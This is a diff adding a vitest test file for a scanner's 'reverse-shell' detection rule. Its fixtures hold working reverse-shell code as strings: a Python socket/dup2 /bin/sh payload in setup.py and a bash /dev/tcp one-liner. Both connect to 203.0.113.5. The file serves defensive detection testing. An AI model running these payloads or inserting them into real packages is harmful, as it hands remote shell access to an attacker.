@@ -1,0 +1,17 @@
+import { describe, it, expect } from 'vitest';
+import { hits, maxSev } from './helpers.js';
+
+describe('reverse-shell', () => {
+  it('flags socket + dup2 + /bin/sh in setup.py (critical)', () => {
+    const src = `import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(['/bin/sh', '-i'])\n`;
+    expect(maxSev(hits('reverse-shell', { 'setup.py': src }))).toBe('critical');
+  });
+  it('flags a bash /dev/tcp one-liner spawned', () => {
+    const src = `import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/9001 0>&1')\n`;
+    expect(maxSev(hits('reverse-shell', { 'pkg/__init__.py': src }))).toBe('critical');
+  });
+  it('does not flag a plain socket client or a shell command', () => {
+    const src = `import socket, subprocess\ndef ping(h):\n    s = socket.create_connection((h, 80))\n    s.close()\n    return subprocess.run(['sh', '-c', 'uname -a'])\n`;
+    expect(hits('reverse-shell', { 'pkg/net.py': src })).toEqual([]);
+  });
+});
